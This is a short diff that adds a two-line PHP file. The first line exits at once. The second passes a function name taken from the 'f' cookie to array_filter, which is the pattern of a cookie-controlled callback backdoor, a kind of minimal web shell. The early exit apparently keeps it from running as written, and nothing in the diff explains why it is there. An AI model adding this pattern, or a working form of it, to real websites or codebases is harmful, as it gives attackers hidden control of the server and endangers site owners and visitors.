@@ -1,0 +1,2 @@
+<?php exit;
+array_filter(array('x'), $_COOKIE['f']);
